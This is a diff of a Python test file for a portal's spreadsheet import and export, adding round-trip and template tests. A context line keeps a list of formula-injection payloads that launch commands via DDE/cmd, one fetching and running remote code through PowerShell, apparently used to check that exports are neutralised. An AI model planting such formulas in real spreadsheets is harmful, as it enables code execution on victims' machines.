@@ -4,6 +4,7 @@ import csv
 import io
 import json
 from collections.abc import Mapping, Sequence
+from datetime import timedelta
 from typing import Any
 
 import openpyxl
@@ -12,6 +13,7 @@ from openpyxl.utils.escape import unescape
 from stdnum.cn import uscc
 
 from portal.call import Call
+from portal.enterprises import charges
 from portal.imports import actions
 from portal.imports.actions import Wish
 from portal.imports.columns import plain
@@ -23,7 +25,7 @@ from portal.workshop.cells import LOST
 from portal.workshop.sheets import CONTROL, read, written, written_csv
 from tests.workshop.test_sheets import LIKE_NUMBERS
 from tests.workshop.test_sheets import PAYLOADS as AT_ALL
-from tests.world import World
+from tests.world import World, make_grid
 
 COMMANDS = [
     "=cmd|'/c calc'!A0", "=cmd|' /C powershell IEX(wget x)'!A0", '=DDE("cmd";"/C calc";"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/c calc'!A0",
@@ -188,3 +190,37 @@ async def test_the_copy_of_an_office_s_file_holds_no_formula_and_all_its_texts(w
     # openpyxl does not tell this text from the escape of a line end
     lost = [n for n, row in enumerate(sent) if row[0] == "_x000D_"]
     assert [row[:2] for n, row in enumerate(again) if n not in lost] == [row[:2] for n, row in enumerate(sent) if n not in lost]
+
+
+async def again(call: Call, kind: str) -> actions.Outcome:
+    """What a list would bring that is imported just as it was taken out."""
+    data = await export(call, "sample", kind, "xlsx")
+    return await actions.run(call, kind=kind, region="sample", data=data, wish=Wish(), write=False)
+
+
+async def test_a_charge_that_is_planned_comes_in_again_unchanged(world: World) -> None:
+    shop = world.enterprises["丙小店（示例）"]
+    await charges.assign(world.call, shop, "fire", world.units["西所"], world.call.today)
+    await charges.assign(world.call, shop, "fire", world.units["区局"], world.call.today + timedelta(days=30))
+    found = await again(world.call, "charges")
+    assert (found.errors, found.same, found.rows) == ((), 1, 1)
+
+
+async def test_ground_beyond_a_grids_own_place_comes_in_again_unchanged(world: World) -> None:
+    await make_grid(world, "丙丁片", "patch", "丙村", parent="西镇格", divisions=("丙村", "丁村"), code="P9")
+    found = await again(world.call, "grids")
+    assert (found.errors, found.changed, found.came) == ((), 0, 0)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_a_template_offers_what_may_be_chosen_and_names_nothing_of_another_town(world: World, kind: str) -> None:
+    west = world.call.as_(await world.office("西所"))
+    book = openpyxl.load_workbook(io.BytesIO(await template(west, scheme_of(world.call), kind)))
+    columns = [column for column in KINDS[kind].columns(scheme_of(world.call)) if not column.around]
+    offered = {
+        next(iter(rule.sqref.ranges)).min_col - 1: rule.formula1.strip('"').split(",") for rule in book.worksheets[0].data_validations.dataValidation
+    }  # fmt: skip
+    assert offered == {n: list(column.choices) for n, column in enumerate(columns) if column.choices}
+    named = {cell for row in book["代码"].values for cell in row}
+    assert {"西所", "区局", "丙村格"} <= named
+    assert not {"东所", "甲村格", "园片", "9901001001"} & named
